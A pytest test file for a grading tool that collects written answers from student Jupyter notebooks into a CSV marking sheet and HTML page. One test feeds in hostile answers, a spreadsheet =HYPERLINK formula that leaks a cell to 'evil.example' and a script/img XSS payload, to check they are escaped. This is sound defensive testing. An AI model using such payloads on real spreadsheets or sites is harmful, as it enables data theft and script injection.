"""No answer in words is lost, whatever happened to its cell; no mark made by hand is lost either."""

import csv
import dataclasses
import json

import pytest

from coursekit.grading import exercise as exercises
from coursekit.grading import files
from coursekit.grading.written import (
    COLUMNS,
    EARLIER,
    LONGEST,
    NO_ANSWER,
    NOT_FOUND,
    PAGE,
    SHEET,
    WrittenMark,
    collect,
    read,
)

PROMPT = """## Question 2: in words (2 points)

1. Why is $\\mathrm{KL}(p \\Vert q)$ not symmetric?

$$
p \\log \\frac{p}{q}
$$

2. Which one would you minimise to cover all modes of p?"""
STUB = "*Write your answer here.*"
ANSWER = '1. Look at the formula:\n\n$$\n\\log p - \\log q\n$$\n\n2. The forward one.\n   It < the > other & "so".'


def cell(source, grade_id=None, kind="markdown"):
    metadata = {"nbgrader": {"grade_id": grade_id, "grade": True, "solution": True, "points": 2}} if grade_id else {}
    return {"cell_type": kind, "metadata": metadata, "source": source}


def notebook(*cells):
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


INTRO = cell("# Exercise\n\nTen points; about an hour.")
CODE = [cell("## Question 1: in code (3 points)\n\nWrite a function."), cell("def f(): pass", "q1", "code")]
LAST = [cell("## Question 3: more code (1 point)"), cell("def g(): pass", "q3", "code")]


def submission(*cells):
    """A notebook with these cells in the place of question 2."""
    return notebook(INTRO, *CODE, *cells, *LAST)


@pytest.fixture
def exercise(tmp_path):
    folder = tmp_path / "solutions" / "density" / "words"
    folder.mkdir(parents=True)
    (folder / "words.ipynb").write_bytes(submission(cell(PROMPT), cell("It is the master's <answer>.", "q2")))
    (folder / "test_words.py").write_text("")
    return exercises.find("density/words", tmp_path / "solutions")


@pytest.fixture
def out(tmp_path):
    return tmp_path / "marks"


def sheet(out):
    with open(out / SHEET, newline="", encoding="utf-8-sig") as file:
        return list(csv.DictReader(file))


def fill(out, **values):
    """Fill in the rows of the students named, as a lecturer does: `ada=("1", "good")`."""
    rows = sheet(out)
    for row in rows:
        row["points"], row["comment"] = values.get(row["student"], (row["points"], row["comment"]))
    files.write(out / SHEET, files.table([COLUMNS, *([row[column] for column in COLUMNS] for row in rows)]))


@pytest.mark.parametrize(
    "cells",
    [
        [cell(PROMPT), cell(ANSWER, "q2")],
        [cell(PROMPT), cell(ANSWER)],  # Colab dropped the id
        [cell(PROMPT, "q2"), cell(ANSWER, "q2")],  # or copied it to the cell above
        [cell(PROMPT), cell(ANSWER, "q2"), cell(ANSWER, "q2")],
        [cell(PROMPT), cell(STUB, "q2"), cell(ANSWER)],  # into a cell of the student's own
        [cell(PROMPT), cell(STUB), cell("1 + 1", kind="code"), cell(ANSWER)],
        [cell(PROMPT), cell(f"{STUB}\n\n{ANSWER}", "q2")],
        [cell(f"{PROMPT}\n\n{ANSWER}")],  # below the question, its own cell deleted
        [cell(PROMPT.replace("\n", "\r\n")), cell(ANSWER.replace("\n", "\r\n"), "q2")],
        [cell(ANSWER, "q2")],  # the question deleted
        [cell(PROMPT), cell(ANSWER, "q2", "raw")],
        [cell(PROMPT), cell(ANSWER, "q2", "code")],
        [cell(PROMPT), cell(ANSWER.splitlines(keepends=True), "q2")],
    ],
)
def test_an_answer_is_found_wherever_it_went(cells, exercise, out):
    assert collect([("ada", submission(*cells))], exercise, out) == []
    (row,) = sheet(out)
    assert row["answer"] == ANSWER
    assert (row["student"], row["question"], row["max"], row["points"], row["comment"]) == ("ada", "q2", "2", "", "")


def test_what_is_spread_over_cells_comes_together(exercise, out):
    spread = [cell(PROMPT), cell("# My answer", "q2"), cell("1. First."), cell("2. Second.", "q2")]
    collect([("ada", submission(*spread))], exercise, out)
    assert sheet(out)[0]["answer"] == "# My answer\n\n1. First.\n\n2. Second."


def test_an_answer_between_the_lines_of_the_question_is_found(exercise, out):
    edited = PROMPT.replace("Why", "So why").replace("\n\n2.", "\n\nIt is an expectation under p.\n\n2.")
    collect([("ada", submission(cell(f"{edited}\n\nThe forward one.")))], exercise, out)
    answer = sheet(out)[0]["answer"]
    assert answer.startswith("1. So why") and "It is an expectation under p." in answer
    assert answer.endswith("The forward one.") and "Which one" not in answer


def test_text_of_other_questions_is_no_answer(exercise, out):
    before = [INTRO, *CODE, cell("My notes on question 1.")]
    after = [
        cell("Of question 3, its heading deleted", "q3"),
        *LAST,
        cell("My notes on question 3."),
        cell("The third in words", "q3"),
    ]
    collect([("ada", notebook(*before, cell(PROMPT), cell(ANSWER), *after))], exercise, out)
    assert sheet(out)[0]["answer"] == ANSWER


@pytest.mark.parametrize(
    ("content", "answer"),
    [
        (submission(cell(PROMPT), cell(STUB, "q2")), NO_ANSWER),
        (submission(cell(PROMPT), cell("Write your answer here.")), NO_ANSWER),
        (submission(cell(PROMPT), cell("  \n", "q2")), NO_ANSWER),
        (submission(cell(PROMPT)), NO_ANSWER),
        (submission(), NOT_FOUND),
        (b"", NOT_FOUND),
        (b"\x00\xff", NOT_FOUND),
        (b"[" * 100_000, NOT_FOUND),
        (notebook(3), NOT_FOUND),
    ],
)
def test_what_is_missing_is_said(content, answer, exercise, out):
    review = collect([("ada", content), ("bob", submission(cell(PROMPT), cell(ANSWER, "q2")))], exercise, out)
    assert [row["answer"] for row in sheet(out)] == [answer, ANSWER]
    assert review == (["ada"] if answer == NOT_FOUND else [])


def test_answers_are_data(exercise, out):
    answers = {
        "a": '=HYPERLINK("http://evil.example/?leak="&A1)',
        "b": "<script>alert(1)</script><img src=//evil.example>",
        "c": "x" * 1_000_000,
        "d": "left \u202etfel\u202c \x00 \ud800 right",
        "e": "'+1",
    }
    students = [(f"{name} <b>", submission(cell(PROMPT), cell(text, "q2"))) for name, text in answers.items()]
    collect(students, exercise, out)
    rows = sheet(out)
    assert rows[0]["answer"] == "'" + answers["a"]
    assert rows[1]["answer"] == answers["b"]
    assert rows[2]["answer"] == f"{'x' * LONGEST}\n[{1_000_000 - LONGEST} more characters are in the notebook]"
    assert rows[3]["answer"] == "left \ufffdtfel\ufffd \ufffd \ufffd right"
    assert rows[4]["answer"] == "''+1"
    page = (out / PAGE).read_text()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "a &lt;b&gt;" in page
    assert not {"<script", "<img", "<b>"} & set(page.replace(">", " ").split())
    assert "default-src 'none'" in page


def test_the_page_has_the_question_and_the_answer_of_the_master(exercise, out):
    collect([("ada", submission(cell(PROMPT), cell(ANSWER, "q2")))], exercise, out)
    page = (out / PAGE).read_text()
    assert "It is the master&#x27;s &lt;answer&gt;." in page
    assert "Which one would you minimise" in page
    assert "Question 2: in words (2 points)</h2>" in page


def test_marks_made_by_hand_survive_another_run(exercise, out):
    def run(**answers):
        collect([(name, submission(cell(PROMPT), cell(text, "q2"))) for name, text in answers.items()], exercise, out)
        return {row["student"]: (row["points"], row["comment"]) for row in sheet(out)}

    assert run(ada="one", bob="two", eve="three") == dict.fromkeys(("ada", "bob", "eve"), ("", ""))
    fill(out, ada=("1.5", "=good"), bob=("", "see me"), eve=("2", ""))
    marks = {"ada": ("1.5", "'=good"), "bob": ("", "see me"), "eve": ("2", "")}
    assert run(ada="one", bob="two", eve="three") == marks
    assert not (out / EARLIER).exists()
    # Another answer has no marks yet, nor has anyone else's; those of the first one are kept, and come back with it.
    assert run(ada="one, or rather two", bob="two") == {"ada": ("", ""), "bob": ("", "see me")}
    kept = files.read_table(out / EARLIER)
    assert [(row["student"], row["answer"], row["points"], row["comment"]) for row in kept] == [
        ("ada", "one", "1.5", "=good"),
        ("eve", "three", "2", ""),
    ]
    assert run(bob="two", eve="three") == {"bob": ("", "see me"), "eve": ("2", "")}
    assert [row["student"] for row in files.read_table(out / EARLIER)] == ["ada"]
    assert run(ada="one", bob="two", eve="three") == marks
    assert read(out, exercise) == {"ada": {"q2": WrittenMark(1.5, "=good")}, "eve": {"q2": WrittenMark(2.0, "")}}


def test_a_killed_run_loses_no_mark(exercise, out, monkeypatch):
    answers = {name: submission(cell(PROMPT), cell(name, "q2")) for name in ("ada", "bob")}
    collect(answers.items(), exercise, out)
    fill(out, ada=("1", ""), bob=("2", ""))
    write = files.write
    for students in ({"ada"}, {"ada", "bob"}, {"bob"}, {"ada", "bob"}):
        for writes in range(4):
            left = iter(range(writes))

            def stopped(path, content, left=left):
                if next(left, None) is None:
                    raise KeyboardInterrupt
                write(path, content)

            monkeypatch.setattr(files, "write", stopped)
            try:
                collect([(name, answers[name]) for name in sorted(students)], exercise, out)
            except KeyboardInterrupt:
                pass
            known = files.read_table(out / SHEET)
            known += files.read_table(out / EARLIER) if (out / EARLIER).exists() else []
            assert {(row["student"], row["points"]) for row in known} >= {("ada", "1"), ("bob", "2")}
    assert {name: mark["q2"].points for name, mark in read(out, exercise).items()} == {"ada": 1.0, "bob": 2.0}


@pytest.mark.parametrize("column", [None, "sha256"])
def test_a_spreadsheet_may_save_it_in_its_own_way(column, exercise, out):
    collect([("zoë", submission(cell(PROMPT), cell(ANSWER, "q2")))], exercise, out)
    header, row = [list(sheet(out)[0]), list(sheet(out)[0].values())]
    row[header.index("points")] = "1,5"
    if column:  # the lecturer deleted it
        del row[header.index(column)], header[header.index(column)]
    text = "\r\n".join(";".join('"' + field.replace('"', '""') + '"' for field in line) for line in (header, row))
    (out / SHEET).write_bytes(text.replace("\n", "\r\n").replace("\r\r", "\r").encode("cp1252"))
    assert read(out, exercise) == {"zoë": {"q2": WrittenMark(1.5, "")}}
    collect([("zoë", submission(cell(PROMPT), cell(ANSWER, "q2")))], exercise, out)
    assert [(row["student"], row["points"]) for row in sheet(out)] == [("zoë", "1,5")]


@pytest.mark.parametrize("points", ["two", "-0.5", "2.5", "nan", "inf", "1e9", "1/2"])
def test_points_that_cannot_be_are_refused(points, exercise, out):
    answers = [(name, submission(cell(PROMPT), cell(name, "q2"))) for name in ("ada", "bob")]
    collect(answers, exercise, out)
    fill(out, ada=("2", ""), bob=(points, ""))
    with pytest.raises(ValueError, match=rf"written.csv, row 3 \(bob, q2\): points must be .* 0 to 2, was '{points}'"):
        read(out, exercise)
    collect(answers, exercise, out)  # but the sheet keeps them
    assert sheet(out)[1]["points"].lstrip("'") == points


def test_rows_that_cannot_be_are_refused(exercise, out):
    assert read(out, exercise) == {}  # nothing collected yet
    collect([("ada", submission(cell(PROMPT), cell(ANSWER, "q2")))], exercise, out)
    assert read(out, exercise) == {}  # nothing marked yet
    fill(out, ada=("1", ""))
    text = (out / SHEET).read_text()
    header, _, body = text.partition("\n")
    (out / SHEET).write_text(f"{header}\n{body}{body}")
    with pytest.raises(ValueError, match=r"row 3 \(ada, q2\): this student has points"):
        read(out, exercise)
    with pytest.raises(ValueError, match="ada has more than one row with marks for q2"):
        collect([], exercise, out)
    (out / SHEET).write_text(text.replace("ada,q2", "ada,q7"))
    with pytest.raises(ValueError, match=r"row 2 \(ada, q7\): question must be one of q2"):
        read(out, exercise)
    (out / SHEET).write_text(text.replace("points", "Punkte"))
    with pytest.raises(ValueError, match="row 2: there is no column 'points'"):
        read(out, exercise)


def test_without_written_questions_nothing_is_written(exercise, out):
    none = dataclasses.replace(exercise, written=())
    assert collect([("ada", b"")], none, out) == [] and read(out, none) == {}
    assert not out.exists()
